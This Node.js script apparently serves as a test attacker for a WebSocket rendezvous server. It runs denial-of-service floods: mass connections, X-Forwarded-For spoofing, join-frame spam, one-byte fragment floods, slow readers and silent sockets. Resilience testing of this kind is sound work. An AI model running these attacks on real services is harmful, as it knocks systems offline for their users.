/**
 * Somebody who means harm: `attacker.mjs URL ATTACK`, until it is killed. Says "begun" on stdout
 * when it is at work. It stands for many addresses where the server believes its X-Forwarded-For.
 */

import { randomBytes } from "node:crypto";
import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { WebSocket } from "ws";

const [url = "", attack = ""] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const socketUrl = `${url.replace(/^http/, "ws")}rendezvous`;

/** Connections that are kept open at a time. */
const AT_ONCE = 50;

/** Addresses of a flood that comes from many. */
const ADDRESSES = 100;

/** Members that never read. */
const SLOW_READERS = 100;

/** TCP connections that say nothing. */
const SILENT = 2_000;

/** @param {number} number */
const addressOf = (number) => `10.9.${number >> 8}.${number & 255}`;

/** What each WebSocket runs over. @type {WeakMap<WebSocket, import("node:net").Socket>} */
const wires = new WeakMap();

/**
 * @param {number} number
 * @returns {Promise<WebSocket | undefined>} Undefined when it is refused.
 */
function open(number) {
  const headers = { "X-Forwarded-For": addressOf(number) };
  const socket = new WebSocket(socketUrl, { perMessageDeflate: false, headers });
  socket.once("upgrade", (answer) => wires.set(socket, answer.socket));
  return new Promise((resolve) => {
    socket.once("open", () => resolve(socket));
    socket.once("close", () => resolve(undefined));
    socket.on("error", () => undefined);
  });
}

/** A join of a group that nobody else is in. @param {Buffer} group */
function joinOf(group) {
  const record = randomBytes(109);
  return Buffer.concat([Buffer.from([0x80]), group, Buffer.from([109]), record]);
}

/** Opens and drops connections. @param {number} addresses */
async function connectionFlood(addresses) {
  let number = 0;
  await Promise.all(
    Array.from({ length: AT_ONCE }, async () => {
      for (;;) {
        number += 1;
        (await open(number % addresses))?.terminate();
        await delay(1);
      }
    }),
  );
}

/** Joins and leaves as fast as sockets take it. */
async function frameFlood() {
  let number = 0;
  await Promise.all(
    Array.from({ length: AT_ONCE }, async () => {
      for (;;) {
        number += 1;
        const socket = await open(number % ADDRESSES);
        while (socket?.readyState === WebSocket.OPEN) {
          for (let count = 0; count < 100; count += 1) socket.send(joinOf(randomBytes(32)));
          await delay(1);
        }
        await delay(10);
      }
    }),
  );
}

/** A hundred thousand fragments of a byte, one connection after the other. */
async function fragments() {
  const first = Buffer.from([0x02, 0x81, 0, 0, 0, 0, 0x80]);
  const next = Buffer.from([0x00, 0x81, 0, 0, 0, 0, 0x80]);
  const crumbs = Buffer.concat([first, ...Array.from({ length: 100_000 }, () => next)]);
  let number = 0;
  await Promise.all(
    Array.from({ length: 8 }, async () => {
      for (;;) {
        number += 1;
        const socket = await open(number % ADDRESSES);
        if (socket !== undefined) wires.get(socket)?.write(crumbs);
        await delay(20);
        socket?.terminate();
      }
    }),
  );
}

/** Members that take nothing, and one that has them told of each other without end. */
async function slowReaders() {
  const group = randomBytes(32);
  for (let number = 0; number < SLOW_READERS; number += 1) {
    const socket = await open(number);
    if (socket === undefined) continue;
    socket.send(joinOf(group));
    wires.get(socket)?.pause();
    const ask = Buffer.concat([Buffer.from([0x82]), group, Buffer.from([16])]);
    setInterval(() => socket.send(ask), 5);
  }
  await new Promise(() => undefined);
}

/** Connections without a word; each that is closed is opened again. */
async function silence() {
  const one = () => {
    const socket = connect(Number(port), hostname);
    socket.on("error", () => undefined);
    socket.once("close", () => setTimeout(one, 100));
  };
  for (let number = 0; number < SILENT; number += 1) one();
  await new Promise(() => undefined);
}

/** @type {Record<string, () => Promise<unknown>>} */
const ATTACKS = {
  "connections from one address": () => connectionFlood(1),
  "connections from a hundred": () => connectionFlood(ADDRESSES),
  "joins from a hundred": frameFlood,
  "100,000 fragments of a byte": fragments,
  "slow readers": slowReaders,
  "silent connections": silence,
};

process.stdout.write("begun\n");
await ATTACKS[attack]?.();
